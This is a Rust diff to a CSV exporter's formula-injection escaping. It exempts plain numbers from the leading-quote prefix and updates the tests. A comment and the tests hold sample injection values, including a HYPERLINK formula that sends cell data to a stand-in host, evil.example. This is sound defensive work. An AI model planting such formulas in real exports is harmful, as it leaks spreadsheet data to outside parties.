@@ -60,8 +60,9 @@ fn writer(out: &Path) -> anyhow::Result<csv::Writer<tempfile::NamedTempFile>> {
 /// `-`, `@`, a tab or a carriage return gets a leading `'` (OWASP's advice for CSV injection). A
 /// customer id or description such as `=HYPERLINK("http://evil.example/?"&A2, "…")` in a shop's
 /// export would otherwise run when a marketing user opens the file in Excel.
+/// A number (`-1`, `+4915...`, a CRM's key) is left as it is: a spreadsheet reads it as a number.
 fn as_text(cell: &str) -> std::borrow::Cow<'_, str> {
-    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) && cell.parse::<f64>().is_err() {
         std::borrow::Cow::Owned(format!("'{cell}"))
     } else {
         std::borrow::Cow::Borrowed(cell)
@@ -233,10 +234,10 @@ mod tests {
 
     #[test]
     fn text_that_a_spreadsheet_would_run_as_a_formula_is_kept_as_text() {
-        for formula in ["=HYPERLINK(\"http://evil.example\")", "+1", "-1+1", "@SUM(1)", "\tx", "\rx"] {
+        for formula in ["=HYPERLINK(\"http://evil.example\")", "+1+cmd", "-1+1", "@SUM(1)", "\tx", "\rx"] {
             assert_eq!(as_text(formula), format!("'{formula}"));
         }
-        for plain in ["17850", "85123A", "WHITE HANGING HEART", "", "a=b"] {
+        for plain in ["17850", "85123A", "WHITE HANGING HEART", "", "a=b", "-1", "+4915112345678"] {
             assert_eq!(as_text(plain), plain);
         }
     }
